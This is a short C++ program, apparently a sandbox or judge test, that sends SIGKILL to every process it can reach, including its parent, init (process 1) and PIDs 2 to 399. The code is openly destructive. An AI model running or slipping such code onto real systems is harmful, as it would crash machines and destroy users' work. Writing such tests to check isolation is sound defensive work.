// Kills every process that it may, its parent, its group, and process 1; then does nothing.
#include <fmt/core.h>

#include <signal.h>
#include <unistd.h>

int main() {
    kill(-1, SIGKILL);
    kill(getppid(), SIGKILL);
    kill(1, SIGKILL);
    for (int pid = 2; pid < 400; ++pid) {
        if (pid != getpid()) {
            kill(pid, SIGKILL);
        }
    }
}
